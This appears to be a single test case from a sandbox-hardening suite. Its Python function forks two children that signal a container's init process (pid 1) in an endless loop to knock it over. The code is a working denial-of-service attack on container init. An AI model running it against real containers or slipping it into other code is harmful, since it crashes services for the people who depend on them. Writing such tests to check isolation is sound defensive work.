"""Signal the sandbox's init without end, then exit.

Source: signals to a container's pid 1 (tini, dumb-init).
"""

from __future__ import annotations

import os
import signal
from typing import Any

KIND = "crash"
WALLS = ("pid", "dumpable")


def attack(input: Any, ctx: Any) -> object:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # init passes it on, as it should
    for _ in range(2):
        if os.fork() == 0:
            while True:
                for number in (signal.SIGTERM, signal.SIGINT, signal.SIGCHLD, signal.SIGHUP):
                    os.kill(1, number)
    os._exit(3)
